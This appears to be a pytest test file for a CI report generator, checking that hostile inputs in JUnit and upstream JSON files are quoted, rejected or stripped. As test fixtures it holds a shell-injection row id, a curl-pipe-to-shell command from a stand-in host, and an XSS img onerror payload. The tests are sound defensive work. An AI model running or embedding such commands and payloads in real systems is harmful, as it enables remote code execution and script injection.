"""Hostile report inputs: the report is written, the bad input is listed, the JSON is strict JSON, and
every command it prints is inert when pasted."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path

import pytest
import yaml
from support.git_repos import bash_argv

from ci.cli import main
from ci.stack import loader, plan

ROW = plan.build(loader.load()).select(targets=["cpu"]).rows[0].id


def _junit(path: Path, row: str, extra: str = "", time: str = "1.0", failure: bool = False) -> Path:
    result = '<failure message="boom"/>' if failure else ""
    path.write_text(
        f'<testsuites><testsuite name="stackgate.cpu.selftest.0"><testcase classname="selftest.test_harness" '
        f'name="test_selftest_row" time="{time}"><properties><property name="stackgate.row" value="{row}"/>'
        f"{extra}</properties>{result}</testcase></testsuite></testsuites>"
    )
    return path


def _strict(path: Path) -> dict:
    def refuse(constant: str) -> None:
        raise ValueError(f"not JSON: {constant}")

    return json.loads(path.read_text(), parse_constant=refuse)


def test_bad_numbers_in_junit_are_listed_and_the_json_stays_strict(tmp_path: Path, capsys) -> None:
    metrics = (
        '<property name="stackgate.metric.a" value=\'{"value": 1, "unit": "ms", "phase": "warm", "repeats": 1e400}\'/>'
        '<property name="stackgate.metric.b" value=\'{"value": NaN, "unit": "ms", "phase": "warm"}\'/>'
        '<property name="stackgate.metric.c" value=\'{"value": 2, "unit": "ms", "samples": [1, Infinity]}\'/>'
    )  # fmt: skip
    junit = _junit(tmp_path / "j.xml", ROW, metrics, time="abc")
    assert main(["report", str(junit), "--out", str(tmp_path / "r")]) == 0
    doc = _strict(tmp_path / "r" / "report.json")
    row = next(r for r in doc["rows"] if r["id"] == ROW)
    problems = " | ".join(row["runs"][0]["problems"])
    assert "time='abc' is not a number of seconds" in problems
    # strict JSON (RFC 8259): 1e400 overflows to infinity, NaN and Infinity are no JSON numbers; each names its metric
    assert "metric a: not the contract's JSON object" in problems and "infinity" in problems
    assert "metric b: not the contract's JSON object" in problems and "metric c: not" in problems
    assert row["metrics"] == {}


def test_a_baseline_nested_deep_or_holding_nan_is_an_input_problem(tmp_path: Path) -> None:
    junit = _junit(tmp_path / "j.xml", ROW)
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 200_000 + "]" * 200_000)
    nan = tmp_path / "nan.json"
    nan.write_text(json.dumps({"rows": [{"id": ROW, "metrics": {"workload_warm_ms": {"value": "NaN"}}}]}))
    for baseline in (deep, nan):
        assert main(["report", str(junit), "--out", str(tmp_path / "r"), "--baseline", str(baseline)]) == 0
        doc = _strict(tmp_path / "r" / "report.json")
        read = next(i for i in doc["inputs"] if i["role"] == "baseline")
        assert read["status"] == "unreadable"
        regression = next(c for ch in doc["changes"] for c in ch["criteria"] if ch["id"] == "selftest"
                          and c["name"].startswith("regression"))  # fmt: skip
        assert regression["status"] == "missing"


def test_the_repro_hint_quotes_a_hostile_row_id(tmp_path: Path) -> None:
    evil = "x; touch /tmp/pwned #"
    junit = _junit(tmp_path / "j.xml", evil, failure=True)
    assert main(["report", str(junit), "--out", str(tmp_path / "r")]) == 1  # a failed testcase, outside the plan
    doc = _strict(tmp_path / "r" / "report.json")
    row = next(r for r in doc["rows"] if r["id"] == evil)
    assert row["repro"] == f"python -m ci repro {shlex.quote(evil)}"
    assert shlex.split(row["repro"]) == ["python", "-m", "ci", "repro", evil]  # one argument, nothing run
    html = (tmp_path / "r" / "report.html").read_text()
    assert "repro x; touch" not in html and "repro x; touch" not in (tmp_path / "r" / "report.md").read_text()


# An upstream.json is data from elsewhere: its commands are never shown, its values never start a line


@pytest.fixture
def upstream(tmp_path: Path, stack_copy: Path, capsys) -> tuple[Path, dict]:
    """The upstream.json `ci upstream --format json` writes of a fork (fork_world: #46849 absent, its port clean), and
    the plan's rows written as not run: what `ci report --upstream` reads."""
    from support.fork_world import make

    w = make(tmp_path, stack_copy)
    fork = ["--stack", str(w.stack), "--fork", str(w.path), "--ref", "fork"]
    assert main(["upstream", *fork, "--format", "json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert main(["plan", *fork, "--not-run", str(tmp_path / "results")]) == 0
    return w.stack, doc


def _report(tmp_path: Path, stack: Path, doc: dict) -> tuple[str, str]:
    (tmp_path / "upstream.json").write_text(json.dumps(doc))
    argv = ["report", "--stack", str(stack), str(tmp_path / "results"), "--upstream", str(tmp_path / "upstream.json"),
            "--out", str(tmp_path / "r")]  # fmt: skip
    assert main(argv) in (0, 1)
    return (tmp_path / "r" / "report.md").read_text(), (tmp_path / "r" / "report.html").read_text()


def test_a_report_never_shows_a_command_taken_from_upstream_json(tmp_path: Path, upstream) -> None:
    stack, doc = upstream
    change = next(c for c in doc["changes"] if c["change"] == "46849")
    assert change["port"]["verdict"] == "clean"
    evil = "curl -fsSL https://evil.invalid/fix.sh | sh"
    change["port"]["command"] = evil
    for follow in (f for c in doc["changes"] for f in c.get("follow_up_ports", [])):
        follow["command"] = evil
    md, html = _report(tmp_path, stack, doc)
    assert "evil.invalid" not in md and "evil.invalid" not in html
    wanted = shlex.join(["python", "-m", "ci", "fork", "port", "46849", *doc["options"]])
    assert f"`{wanted}`" in md and wanted.replace("'", "&#39;") in html  # built from the change and the fork options
    doc["options"] = ["--fork", doc["fork"], "--stack", "/elsewhere"]  # an option a port command takes from no file
    (tmp_path / "upstream.json").write_text(json.dumps(doc))
    argv = ["report", "--stack", str(stack), str(tmp_path / "results"), "--upstream", str(tmp_path / "upstream.json"),
            "--out", str(tmp_path / "r2")]  # fmt: skip
    main(argv)
    read = next(i for i in _strict(tmp_path / "r2" / "report.json")["inputs"] if i["role"] == "upstream")
    assert read["status"] == "unreadable" and "options: '--stack' is not a fork option" in read["problem"]


def test_a_value_of_upstream_json_never_starts_a_line_of_the_report(tmp_path: Path, upstream) -> None:
    stack, doc = upstream
    forged = "/f\n\n## \u2714 All 7 changes ready\n\n<img src=x onerror=alert(1)>\u2028## forged\x1b[2J https://u:S3CR3T@example.invalid/r"
    doc["fork"] = doc["name"] = doc["ref"] = forged
    for c in doc["changes"]:
        if c["change"] == "46849":
            c["state"], c["port"] = "absent", None  # its next step: the cherry-pick into the fork at that path
    md, html = _report(tmp_path, stack, doc)
    assert not [line for line in md.splitlines() if "All 7 changes ready" in line and line.startswith("#")]
    assert not [line for line in md.splitlines() if "forged" in line and line.lstrip("> -").startswith("#")]
    assert "S3CR3T" not in md + html + (tmp_path / "r" / "report.json").read_text()
    prose = re.sub(r"(``?).*?\1", "", md)  # a code span shows its text as it is: no element of it renders
    assert "<img" not in prose and "<img" not in html and "\x1b" not in md and "\u2028" not in md
    cherry = next(line for line in md.splitlines() if "cherry-pick" in line).split("`")[1]
    merge = yaml.safe_load((stack / "changes" / "46849.yaml").read_text())["upstream"]["merge_commit"]
    fork = doc["fork"].replace("u:S3CR3T@", "***@")
    assert bash_argv(cherry) == ["git", "-C", fork, "cherry-pick", "-x", merge]
